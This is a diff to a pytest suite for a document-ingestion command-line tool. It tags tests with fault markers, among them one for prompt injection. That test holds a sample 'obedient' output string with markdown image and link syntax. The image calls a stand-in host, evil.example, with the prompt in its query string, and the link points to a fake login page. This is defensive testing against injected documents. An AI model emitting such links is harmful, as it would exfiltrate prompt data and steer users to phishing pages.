@@ -29,6 +29,7 @@ def ingested(victim: CommandLine) -> Run:
         return machine.measured("ingest", "docs", "--jsonl")
 
 
+@pytest.mark.fault("special-files", "oversized-files")
 def test_a_folder_of_traps_costs_its_files_and_nothing_else(ingested: Run) -> None:
     events = [json.loads(line) for line in ingested.outcome.stdout.splitlines()]
     told = {event["source"]: event["action"] for event in events if "action" in event}
@@ -56,6 +57,7 @@ def test_what_lies_outside_is_not_read(ingested: Run, victim: CommandLine) -> No
     assert [path for path in victim.store.rglob("*.sqlite3*") if b"Nobody asked" in path.read_bytes()] == []
 
 
+@pytest.mark.fault("prompt-injection")
 def test_a_document_that_asks_for_links_gets_none_on_a_terminal(ingested: Run, victim: CommandLine) -> None:
     assert ingested.outcome.code == 6
     obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
